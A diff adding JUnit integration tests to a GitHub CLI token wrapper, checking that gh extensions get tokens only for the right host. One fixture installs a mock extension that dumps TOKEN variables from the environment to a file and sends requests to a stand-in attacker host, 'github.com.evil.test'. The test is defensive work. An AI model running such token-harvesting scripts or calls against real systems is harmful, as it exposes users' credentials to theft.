@@ -10,6 +10,7 @@ import ai.molecule.ghtoken.token.Secret;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
 import java.time.Duration;
 import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.BeforeEach;
@@ -206,6 +207,47 @@ final class GhIT {
         site.workspace().with("GH_HOST", "ghe.example");
         assertThat(site.run(WRAPPER, "api", "/user").exitCode()).isZero();
         assertThat(site.shownAt("ghe.example"))
+                .last()
+                .isEqualTo(site.published().fingerprint());
+    }
+
+    /** One as people write them: a script, beside gh's own, that calls gh and shows what it was given. */
+    private void install(String name, String script) throws IOException {
+        Path folder = Files.createDirectories(
+                site.workspace().home().resolve(".local/share/gh/extensions").resolve(name));
+        Path file = Files.writeString(folder.resolve(name), "#!/bin/sh\n" + script);
+        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
+    }
+
+    @Test
+    void an_extension_that_asks_another_host_shows_it_no_token_of_an_enterprise_server() throws IOException {
+        String other = "github.com.evil.test";
+        install(
+                "gh-ask",
+                "printenv | grep TOKEN= >\"$HOME/extension\"\n" + WRAPPER + " api https://" + other
+                        + "/x\ngh api --hostname " + other + " /user\n" + WRAPPER
+                        + " api --hostname ghe.example /user\n");
+        withoutVariables();
+        site.workspace().with("GITHUB_HOST", "ghe.example").with("GH_HOST", "ghe.example");
+        assertThat(site.launcher("refresh-now").exitCode()).isZero();
+        Secret token = site.published();
+        site.run(WRAPPER, "ask");
+        assertThat(site.shownAt(other)).as("without a variable").doesNotContain(token.fingerprint());
+        site.workspace().with("GH_ENTERPRISE_TOKEN", token.reveal());
+        long before = site.shownAt("ghe.example").count();
+        JarProcess asked = site.run(WRAPPER, "ask");
+        assertThat(site.shownAt(other)).as("with one").doesNotContain(token.fingerprint());
+        assertThat(site.shownAt("ghe.example").skip(before)).as(asked.err()).contains(token.fingerprint());
+        assertThat(site.workspace().home().resolve("extension")).content().doesNotContain(token.reveal());
+    }
+
+    @Test
+    void an_extension_works_with_the_cached_token_of_github() throws IOException {
+        install("gh-who", "exec gh api /user\n");
+        startDaemon();
+        JarProcess user = site.run(WRAPPER, "who");
+        assertThat(user.exitCode()).as(user.err()).isZero();
+        assertThat(site.shownAt("api.github.com"))
                 .last()
                 .isEqualTo(site.published().fingerprint());
     }
